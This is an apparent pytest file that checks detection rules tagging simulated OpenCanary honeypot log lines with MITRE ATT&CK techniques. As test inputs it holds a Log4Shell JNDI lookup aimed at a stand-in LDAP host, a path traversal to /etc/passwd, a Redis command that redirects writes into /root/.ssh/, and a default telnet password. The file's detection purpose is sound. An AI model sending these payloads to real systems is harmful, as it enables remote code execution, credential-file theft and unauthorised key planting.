"""Rules from lines of OpenCanary's log to stored tags."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from itertools import count
from typing import TYPE_CHECKING

import pytest

from tests.sources.opencanary_lines import line

if TYPE_CHECKING:
    from tests.e2e.rules.served import Served

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(120)]
START = datetime(2026, 11, 18, 12, tzinfo=UTC)
LOG = "opencanary.log"
_numbers = count(1)
HTTP = {"HOSTNAME": "192.0.2.10", "PATH": "/", "USERAGENT": "Mozilla/5.0"}


class Caller:
    """An attacker at decoys of its own."""

    def __init__(self, source: str, served: Served) -> None:
        self.source = source
        self._served = served

    def line(self, logtype: int, data: dict[str, str], at: float = 0, *, port: int = 21, decoy: str = "") -> bytes:
        """One record, so many seconds after the start."""
        stamp = (START + timedelta(seconds=at)).strftime("%Y-%m-%d %H:%M:%S.%f")
        node = f"canary-{self.source}{decoy}"
        own = {"src_host": self.source, "node_id": node, "utc_time": stamp, "local_time_adjusted": stamp}
        return line(logtype, data, **own, dst_port=port)

    def does(self, *lines: bytes) -> None:
        """OpenCanary writes these lines."""
        self._served.log(LOG, lines)


@pytest.fixture
def caller(served: Served) -> Caller:
    return Caller(f"198.18.0.{next(_numbers)}", served)


@pytest.mark.rule("R0007")
def test_a_scanner_that_names_itself_to_a_web_server_is_known(caller: Caller, served: Served) -> None:
    caller.does(caller.line(3000, {**HTTP, "USERAGENT": "sqlmap/1.8"}, port=80))
    shown = {tag.shown for tag in served.tags("R0007", caller.source, count=2)}
    assert shown == {("TA0043", "T1595.002", 0.9), ("TA0001", "T1190", 0.9)}


@pytest.mark.rule("R0008")
def test_a_lookup_in_a_user_agent_is_an_exploit(caller: Caller, served: Served) -> None:
    caller.does(caller.line(3000, {**HTTP, "USERAGENT": "${jndi:ldap://203.0.113.9:1389/a}"}, port=80))
    (tag,) = served.tags("R0008", caller.source)
    assert tag.shown == ("TA0001", "T1190", 0.95)
    assert tag.evidence["field"] == "user_agent"


@pytest.mark.rule("R0009")
def test_a_climb_out_of_the_web_root_is_an_exploit(caller: Caller, served: Served) -> None:
    caller.does(caller.line(3000, {**HTTP, "PATH": "/cgi-bin/../../../../etc/passwd"}, port=80))
    (tag,) = served.tags("R0009", caller.source)
    assert tag.shown == ("TA0001", "T1190", 0.85)


@pytest.mark.rule("R0026")
def test_a_database_that_is_to_write_where_keys_lie_plants_one(caller: Caller, served: Served) -> None:
    caller.does(caller.line(17001, {"CMD": "CONFIG", "ARGS": "SET dir /root/.ssh/"}, port=6379))
    (tag,) = served.tags("R0026", caller.source)
    assert tag.shown == ("TA0003", "T1098.004", 0.9)


@pytest.mark.rule("R0039")
def test_an_answer_for_a_name_that_nobody_has_is_poisoning(caller: Caller, served: Served) -> None:
    caller.does(caller.line(19001, {"query_hostname": "DC03", "response": 'DNS Ans "198.18.0.9"'}, port=5355))
    (tag,) = served.tags("R0039", caller.source)
    assert tag.shown == ("TA0009", "T1557.001", 0.9)
    assert tag.evidence == {"sign": "llmnr", "threshold": {"answers_gte": 1}}


@pytest.mark.rule("R0040")
def test_a_device_configuration_that_is_read_by_tftp_is_a_dump(caller: Caller, served: Served) -> None:
    caller.does(
        caller.line(10001, {"FILENAME": "pxelinux.0", "MODE": "octet", "OPCODE": "READ"}, port=69),
        caller.line(10001, {"FILENAME": "router-confg", "MODE": "octet", "OPCODE": "WRITE"}, 1, port=69),
        caller.line(10001, {"FILENAME": "R7-Confg", "MODE": "octet", "OPCODE": "READ"}, 2, port=69),
    )
    served.settle()
    (tag,) = served.tags("R0040", caller.source)
    assert tag.shown == ("TA0009", "T1602.002", 0.9)
    assert tag.evidence == {"sign": "*-confg"}


@pytest.mark.rule("R0065")
def test_a_probe_that_one_decoy_saw_is_less_sure_than_one_that_three_saw(caller: Caller, served: Served) -> None:
    probe = {"PROTO": "TCP", "SYN": ""}
    caller.does(*(caller.line(5004, probe, number, port=3389, decoy=f"-{number}") for number in range(3)))
    served.settle()
    tags = served.tags("R0065", caller.source, count=4)
    assert sorted(tag.shown for tag in tags) == [
        ("TA0007", "T1046", 0.63),
        ("TA0007", "T1046", 0.9),
        ("TA0043", "T1595.001", 0.63),
        ("TA0043", "T1595.001", 0.9),
    ]
    assert {(tag.evidence["signature"], tag.evidence["decoys_gte"], tag.confidence) for tag in tags} == {
        ("nmap_xmas", 1, 0.63),
        ("nmap_xmas", 3, 0.9),
    }


@pytest.mark.rule("R0065", "R0067")
def test_three_services_in_a_minute_are_a_port_scan_and_the_rhythm_of_one(caller: Caller, served: Served) -> None:
    login = {"USERNAME": "admin", "PASSWORD": "x"}
    caller.does(
        caller.line(2000, login, 0, port=21),
        caller.line(6001, login, 1, port=23),
        caller.line(3000, HTTP, 2, port=80),
        caller.line(8001, login, 3, port=3306),
    )
    served.settle()
    scan = served.tags("R0065", caller.source, count=2)
    assert {(tag.confidence, tag.evidence["signature"]) for tag in scan} == {(0.63, "services")}
    assert scan[0].evidence["threshold"] == {"services_gte": 3}
    rhythm = served.tags("R0067", caller.source, count=2)
    assert {tag.shown for tag in rhythm} == {("TA0007", "T1046", 0.9), ("TA0043", "T1595", 0.9)}
    assert {tag.evidence["behaviour"] for tag in rhythm} == {"scanning"}


@pytest.mark.rule("R0069")
def test_a_scanner_of_web_servers_is_a_tool_of_the_day(caller: Caller, served: Served) -> None:
    caller.does(caller.line(3000, {**HTTP, "USERAGENT": "Mozilla/5.00 (Nikto/2.5.0)"}, port=80))
    tags = served.tags("R0069", caller.source, count=2)
    assert {tag.shown for tag in tags} == {("TA0007", "T1046", 0.9), ("TA0043", "T1595.002", 0.9)}
    assert (tags[0].evidence["tool"], tags[0].evidence["basis"]) == ("nikto", ["user_agent"])


@pytest.mark.rule("R0001", "R0006")
def test_guesses_at_telnet_are_brute_force_and_a_default_pair_among_them_is_known(
    caller: Caller, served: Served
) -> None:
    passwords = ("xc3511", "a", "b", "c", "d")
    caller.does(
        *(caller.line(6001, {"USERNAME": "root", "PASSWORD": one}, at, port=23) for at, one in enumerate(passwords))
    )
    (brute,) = served.tags("R0001", caller.source)
    assert (brute.technique, brute.source_id.split(":")[-2]) == ("T1110", "telnet")
    (pair,) = served.tags("R0006", caller.source)
    assert pair.shown == ("TA0001", "T1078.001", 0.9)
